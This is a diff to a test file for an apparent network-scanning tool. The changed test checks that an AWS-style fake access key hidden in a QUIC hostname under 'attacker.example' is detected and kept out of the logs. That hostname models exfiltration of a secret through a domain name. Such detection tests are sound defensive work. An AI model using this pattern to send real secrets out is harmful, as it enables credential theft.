@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from interceptor.scan.ruleset import example
 from tests.lab import Lab
 from tests.lab.clients import PYTHON, install_python_clients, no_environment, python
 from tests.lab.programs import clients_environment
@@ -110,7 +111,7 @@ def test_a_hello_in_two_datagrams_and_one_that_ends_too_soon(clean_lab: Lab) -> 
 
 
 def test_a_secret_in_the_name_is_found_and_not_written_down(clean_lab: Lab) -> None:
-    secret = "AKIA" + "22ELPMX7SSERGE3Q"[::-1]
+    secret = example(["AK", "IA", "{upper32:16}"], "quic").decode()
     data = opening(f"{secret}.attacker.example")
     done = clean_lab.jail(raw("api.example.com"), input=lines(data))
     (event,) = quic_events(done.events())
